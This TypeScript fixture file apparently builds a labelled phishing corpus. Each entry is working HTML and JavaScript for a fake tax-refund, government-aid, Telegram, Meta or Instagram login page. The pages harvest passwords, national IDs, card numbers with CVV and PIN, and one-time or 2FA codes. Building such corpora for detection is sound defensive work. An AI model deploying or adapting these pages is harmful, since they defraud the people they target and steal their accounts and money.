import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, jsRoute, okApi, rtlCss } from '../parts/zi-kit.js';

// Government / tax refund kits and social / messaging account kits.

export const entries: Entry[] = [
  {
    id: 'zi-gov-anaf-rambursare-ro',
    label: 'phishing',
    kind: 'tax-kit',
    url: 'https://anaf-spv.ro-rambursare.info/spv/',
    body: doc({
      lang: 'ro',
      title: 'ANAF - Spatiul Privat Virtual',
      css: '.h{background:#00447c;color:#fff;padding:16px 28px;font-size:20px}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px;border:1px solid #ccc}input{width:100%;padding:9px;margin:4px 0 12px;border:1px solid #999}button{background:#00447c;color:#fff;border:0;padding:11px 26px}',
      body: `<div class="h">AGENTIA NATIONALA DE ADMINISTRARE FISCALA</div>
<div class="c">
<h3>Notificare de rambursare a impozitului</h3>
<p>Stimate contribuabil, in urma recalcularii anuale, aveti dreptul la o rambursare in valoare de <b>1.214,50 lei</b>. Va rugam completati formularul pentru a primi suma pe card.</p>
<form method="post" action="/spv/trimite">
<input name="cnp" placeholder="CNP"><input name="nume" placeholder="Nume complet"><input name="tel" placeholder="Telefon">
<input name="card" placeholder="Numar card"><input name="exp" placeholder="LL/AA"><input name="cvv" placeholder="CVV">
<button>Trimite cererea</button></form>
</div>`,
    }),
    routes: { 'anaf-spv.ro-rambursare.info/spv/trimite': htmlRoute('<!doctype html><html lang="ro"><meta charset="utf-8"><p>Introduceti codul primit prin SMS</p><input name="otp"></html>') },
  },
  {
    id: 'zi-gov-sars-efiling-refund-za',
    label: 'phishing',
    kind: 'tax-kit',
    url: 'https://sars-efiling-refunds.co.za.taxrefund-portal.net/login',
    body: doc({
      lang: 'en',
      title: 'SARS eFiling - Login',
      css: '.h{background:#003a70;color:#fff;padding:14px 26px;font-size:20px}.c{max-width:420px;margin:36px auto;background:#fff;padding:24px;border-top:4px solid #00a3e0}input{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #aaa}button{background:#00a3e0;color:#fff;border:0;padding:11px;width:100%}',
      body: `<div class="h">SARS eFiling</div>
<div class="c">
<h3>Login</h3>
<p style="font-size:13px">You have an outstanding refund of <b>R 3,418.22</b> for the 2025 tax year. Login to verify your banking details so that the refund can be released.</p>
<form method="post" action="/verify-banking">
<input name="username" placeholder="Username"><input name="password" type="password" placeholder="Password">
<button>Login</button></form>
<p style="font-size:11px;color:#777">South African Revenue Service. Contact centre 0800 00 7277</p>
</div>`,
    }),
    routes: { 'sars-efiling-refunds.co.za.taxrefund-portal.net/verify-banking': htmlRoute('<!doctype html><meta charset="utf-8"><title>Banking details</title><form method="post"><input name="bank"><input name="acc"><input name="card"><input name="cvv"><input name="pin" type="password"><button>Submit</button></form>') },
  },
  {
    id: 'zi-gov-edevlet-destek-odemesi-tr',
    label: 'phishing',
    kind: 'gov-kit',
    url: 'https://turkiye-gov-destek.com/edevlet/basvuru',
    body: doc({
      lang: 'tr',
      title: 'e-Devlet Kapısı | Destek Ödemesi Başvurusu',
      css: '.h{background:#cc0000;color:#fff;padding:14px 26px;font-size:20px;font-weight:700}.c{max-width:480px;margin:30px auto;background:#fff;padding:24px}input{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #bbb}button{background:#cc0000;color:#fff;border:0;padding:12px;width:100%}',
      body: `<div class="h">türkiye.gov.tr — e-Devlet Kapısı</div>
<div class="c">
<h3>Aile Destek Ödemesi Başvurusu</h3>
<p>2025 yılı hane başı <b>4.500 TL</b> destek ödemesi için son başvuru tarihi yarındır. e-Devlet şifreniz ile giriş yaparak başvurunuzu tamamlayınız.</p>
<form method="post" action="/edevlet/giris">
<input name="tckn" placeholder="T.C. Kimlik Numarası" maxlength="11"><input name="sifre" type="password" placeholder="e-Devlet Şifresi">
<button>Giriş Yap</button></form>
</div>`,
    }),
    routes: { 'turkiye-gov-destek.com/edevlet/giris': htmlRoute('<!doctype html><html lang="tr"><meta charset="utf-8"><p>Ödemenin yatırılacağı kart bilgileri</p><form method="post"><input name="kart"><input name="skt"><input name="cvv"><button>Tamamla</button></form></html>') },
  },
  {
    id: 'zi-gov-diia-dopomoha-ua',
    label: 'phishing',
    kind: 'gov-kit',
    url: 'https://diia-dopomoga.com.ua-gov.site/',
    body: doc({
      lang: 'uk',
      title: 'Дія — Допомога ВПО',
      css: 'body{background:#e2ecf4}.c{max-width:420px;margin:40px auto;background:#fff;padding:26px;border-radius:16px}.lg{font-size:34px;font-weight:800}input{width:100%;padding:12px;margin:6px 0 10px;border:1px solid #000;border-radius:40px}button{width:100%;padding:13px;background:#000;color:#fff;border:0;border-radius:40px}',
      body: `<div class="c"><div class="lg">дія</div>
<h3>Одноразова допомога внутрішньо переміщеним особам — 3 000 грн</h3>
<p>Заповніть заявку. Кошти надходять на картку протягом доби.</p>
<form id="f">
<input name="pib" placeholder="ПІБ"><input name="rnokpp" placeholder="РНОКПП (ІПН)"><input name="phone" placeholder="Телефон">
<input name="card" placeholder="Номер картки"><input name="exp" placeholder="ММ/РР"><input name="cvv" placeholder="CVV2">
<button>Подати заявку</button></form></div>
<script>document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/api/zayavka');x.send(new FormData(this));x.onload=function(){document.body.innerHTML='<p style="text-align:center;margin-top:80px">Введіть код з SMS для підтвердження: <input></p>'}})</script>`,
    }),
    routes: { ...okApi('diia-dopomoga.com.ua-gov.site', '/api/zayavka') },
  },
  {
    id: 'zi-social-telegram-web-login-ru',
    label: 'phishing',
    kind: 'messaging-kit',
    url: 'https://web-telegram.org.ru-login.app/k/',
    body: doc({
      lang: 'ru',
      title: 'Telegram Web',
      css: 'body{background:#fff;text-align:center}.lg{width:120px;height:120px;border-radius:60px;background:#3390ec;margin:50px auto 20px}.c{max-width:360px;margin:0 auto}input{width:100%;padding:14px;margin:8px 0;border:1px solid #dfe1e5;border-radius:10px;font-size:16px}button{width:100%;padding:14px;background:#3390ec;color:#fff;border:0;border-radius:10px;font-size:15px;text-transform:uppercase}.s{display:none}',
      body: `<div class="lg"></div>
<div class="c">
<h2>Вход в Telegram</h2>
<p style="color:#707579">Вы получили приглашение в закрытый канал «Сливы 18+». Подтвердите номер телефона.</p>
<div id="a"><input id="ph" value="+7 " ><button onclick="go1()">Далее</button></div>
<div id="b" class="s"><p>Мы отправили код в приложение Telegram на другом устройстве.</p><input id="cd" placeholder="Код"><button onclick="go2()">Далее</button></div>
<div id="c" class="s"><p>Ваш аккаунт защищён облачным паролем.</p><input id="pw" type="password" placeholder="Пароль"><button onclick="go3()">Далее</button></div>
</div>
<script src="/k/app.js"></script>`,
    }),
    routes: {
      'web-telegram.org.ru-login.app/k/app.js': jsRoute(`var S=function(o){return fetch('/k/api',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)})};
function sh(id){['a','b','c'].forEach(function(x){document.getElementById(x).style.display=x===id?'block':'none'})}
function go1(){S({phone:document.getElementById('ph').value}).then(function(){sh('b')})}
function go2(){S({code:document.getElementById('cd').value}).then(function(){sh('c')})}
function go3(){S({pass:document.getElementById('pw').value}).then(function(){location.href='/k/#/im'})}`),
      ...okApi('web-telegram.org.ru-login.app', '/k/api'),
    },
  },
  {
    id: 'zi-social-meta-copyright-appeal-tr',
    label: 'phishing',
    kind: 'social-kit',
    url: 'https://business-meta-support.com-case8812.help/appeal/',
    body: doc({
      lang: 'tr',
      title: 'Meta for Business - Telif Hakkı İhlali İtirazı',
      css: 'body{background:#f0f2f5}.c{max-width:560px;margin:40px auto;background:#fff;padding:28px;border-radius:8px}.m{color:#0866ff;font-size:24px;font-weight:700}input,textarea{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #ccd0d5;border-radius:6px}button{background:#0866ff;color:#fff;border:0;padding:12px;width:100%;border-radius:6px}',
      body: `<div class="c"><div class="m">∞ Meta</div>
<h3>Sayfanız telif hakkı ihlali nedeniyle kalıcı olarak kaldırılacak</h3>
<p>Vaka No: #8812-44710. Sayfanızın paylaştığı içerik hakkında şikayet aldık. Bunun bir hata olduğunu düşünüyorsanız 24 saat içinde itiraz edin.</p>
<form method="post" action="/appeal/pw">
<input name="fullname" placeholder="Ad Soyad"><input name="email" placeholder="E-posta veya Telefon"><input name="page" placeholder="Sayfa Adı">
<textarea name="note" placeholder="İtiraz açıklaması"></textarea>
<input name="password" type="password" placeholder="Facebook Şifresi">
<button>İtiraz Gönder</button></form>
<p style="font-size:11px;color:#65676b">Meta © 2025 · Gizlilik · Koşullar · Reklam</p></div>`,
    }),
    routes: { 'business-meta-support.com-case8812.help/appeal/pw': htmlRoute('<!doctype html><html lang="tr"><meta charset="utf-8"><p>Şifre yanlış. Lütfen tekrar deneyin.</p><form method="post" action="/appeal/2fa"><input name="password" type="password"><input name="code" placeholder="İki faktörlü kod"><button>Gönder</button></form></html>') },
  },
  {
    id: 'zi-social-instagram-blue-badge-fa',
    label: 'phishing',
    kind: 'social-kit',
    url: 'https://insta-verify-badge.ir-blue.com/',
    body: doc({
      lang: 'fa',
      dir: 'rtl',
      title: 'دریافت تیک آبی اینستاگرام',
      css: rtlCss + 'body{background:#fafafa}.c{max-width:360px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:30px;text-align:center}.l{font-size:30px;font-family:cursive}input{width:100%;padding:9px;margin:4px 0;border:1px solid #dbdbdb;background:#fafafa;direction:ltr}button{width:100%;margin-top:10px;padding:8px;background:#0095f6;color:#fff;border:0;border-radius:8px}',
      body: `<div class="c"><div class="l">Instagram</div>
<p>حساب شما برای دریافت <b>نشان تأیید آبی</b> واجد شرایط است. برای تکمیل درخواست وارد شوید.</p>
<form method="post" action="/login.php"><input name="username" placeholder="نام کاربری یا ایمیل"><input name="password" type="password" placeholder="رمز عبور"><button>ورود</button></form>
<p style="font-size:12px;color:#8e8e8e">از Meta</p></div>`,
    }),
    routes: { 'insta-verify-badge.ir-blue.com/login.php': redirectRoute(302, 'https://insta-verify-badge.ir-blue.com/ok.html'), 'insta-verify-badge.ir-blue.com/ok.html': htmlRoute('<!doctype html><html lang="fa" dir="rtl"><meta charset="utf-8"><p>درخواست شما ثبت شد. بررسی ۴۸ ساعت طول می‌کشد.</p></html>') },
  },
];
